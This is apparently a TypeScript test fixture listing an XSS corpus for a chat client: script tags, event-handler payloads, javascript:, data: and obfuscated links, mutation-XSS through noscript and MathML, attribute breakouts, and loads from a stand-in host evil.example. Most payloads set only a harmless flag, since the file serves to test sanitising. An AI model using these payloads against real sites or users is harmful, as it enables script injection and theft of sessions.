/** Where a hostile text stands. */
export type XssPlace = "text" | "reply" | "person" | "file" | "channel" | "reaction";

export interface XssCase {
  readonly name: string;
  readonly place: XssPlace;
  readonly payload: string;
}

/** What a payload calls if it gets to run. */
export const RAN = "xssRan";
const RUN = `window.${RAN}=1`;
const EVIL = "https://evil.example";

const TEXTS: Readonly<Record<string, string>> = {
  "a script": `<script>${RUN}</script>`,
  "a script from elsewhere": `<script src="${EVIL}/x.js"></script>`,
  "a picture that fails": `<img src=x onerror="${RUN}">`,
  "a picture without quotes or spaces": `<img/src/onerror=${RUN}>`,
  "an SVG that loads": `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x></svg>`,
  "an SVG that uses": `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  "a frame": `<iframe src="javascript:parent.${RAN}=1"></iframe>`,
  "a frame with a document": `<iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
  "an object": `<object data="javascript:${RUN}"></object><embed src="${EVIL}/x.swf">`,
  "a form": `<form action="javascript:${RUN}"><button autofocus onfocus="${RUN}">go</button></form>`,
  "a style": `<style>@import "${EVIL}/x.css"; body{background:url(${EVIL}/y.png)}</style>`,
  "a base": `<base href="${EVIL}/"><link rel="stylesheet" href="x.css">`,
  "a refresh": `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  "details that toggle": `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  "a film": `<video autoplay><source onerror="${RUN}" src="${EVIL}/x.mp4"></video>`,
  "an end of what stands around": `</p></div></article><script>${RUN}</script>`,
  "mutation through noscript": `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  "mutation through mathml": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  entities: `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
  "a comment that ends": `<!--><img src=x onerror=${RUN}>-->`,
  CDATA: `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  "a processing instruction": `<?xml-stylesheet href="javascript:${RUN}"?>`,
  "HTML in a block": `<div>\n<img src=x onerror="${RUN}">\n</div>`,
  "HTML in a table": `| a |\n| --- |\n| <img src=x onerror="${RUN}"> |`,
  "HTML in a heading and a quote": `# <img src=x onerror=${RUN}>\n> <svg/onload=${RUN}>`,
  "a javascript link": `[press](javascript:${RUN})`,
  "a javascript link in capitals": `[press](JaVaScRiPt:${RUN})`,
  "a javascript link with a tab": `[press](<java\tscript:${RUN}>)`,
  "a javascript link by entities": `[press](&#106;avascript&colon;${RUN})`,
  "a javascript link with a control character": `[press](\u0001javascript:${RUN})`,
  "a javascript link that looks relative": `[press](//javascript:${RUN})[press](/\\evil.example)`,
  "an automatic javascript link": `<javascript:${RUN}>`,
  "a vbscript link": `[press](vbscript:msgbox)`,
  "a data link": `[press](data:text/html,<script>${RUN}</script>)`,
  "a blob and a file link": `[press](blob:${EVIL}/x) [press](file:///etc/passwd)`,
  "a view-source and a custom link": `[press](view-source:javascript:${RUN}) [press](cromulent://invite)`,
  "a link by reference": `[press][x]\n\n[x]: javascript:${RUN}`,
  "a link with a title that ends": `[press](https://a.example "\\" onmouseover=\\"${RUN}")`,
  "a link in a link": `[a ![b](javascript:${RUN}) c](javascript:${RUN})`,
  "a picture from elsewhere": `![look](${EVIL}/pixel.png)`,
  "a picture by reference": `![look][p]\n\n[p]: ${EVIL}/pixel.png`,
  "a picture that is a script": `![look](javascript:${RUN}) ![look](data:image/svg+xml,<svg/onload=${RUN}>)`,
  "a footnote": `x[^1]\n\n[^1]: <img src=x onerror=${RUN}> [y](javascript:${RUN})`,
  "code with HTML": `\`\`\`html\n<script>${RUN}</script><img src=x onerror=${RUN}>\n\`\`\``,
  "code with a hostile language": `\`\`\`"><img/src/onerror=${RUN}>\nx\n\`\`\``,
  "code with the language of a prototype": "```__proto__\nx\n```\n```constructor\ny\n```",
  "code in a line": `\`<img src=x onerror=${RUN}>\``,
  "a spoiler": `||<img src=x onerror=${RUN}> [y](javascript:${RUN})||`,
  "a mention": `@ada"><img/src/onerror=${RUN}> @everyone<script>${RUN}</script>`,
  "a mail address": `<mailto:a@b.example?body=<script>${RUN}</script>> a@b.example"onmouseover=${RUN}`,
  "an address that ends": `https://a.example/"onmouseover="${RUN}" https://a.example/<script>${RUN}</script>`,
};

const NAMES: Readonly<Record<string, string>> = {
  "a script": `<script>${RUN}</script>`,
  "an end of an attribute": `"><img src=x onerror=${RUN}>`,
  Markdown: `[x](javascript:${RUN}) ![x](${EVIL}/y.png)`,
};

const PLACES: readonly Exclude<XssPlace, "text">[] = ["reply", "person", "file", "channel", "reaction"];

/** Texts that would do harm in a client that believes them (with the files of the server's half: 100). */
export const XSS_CORPUS: readonly XssCase[] = [
  ...Object.entries(TEXTS).map(([name, payload]): XssCase => ({ name: `text, ${name}`, place: "text", payload })),
  ...PLACES.flatMap((place) =>
    Object.entries(NAMES).map(([name, payload]): XssCase => ({ name: `${place}, ${name}`, place, payload })),
  ),
];
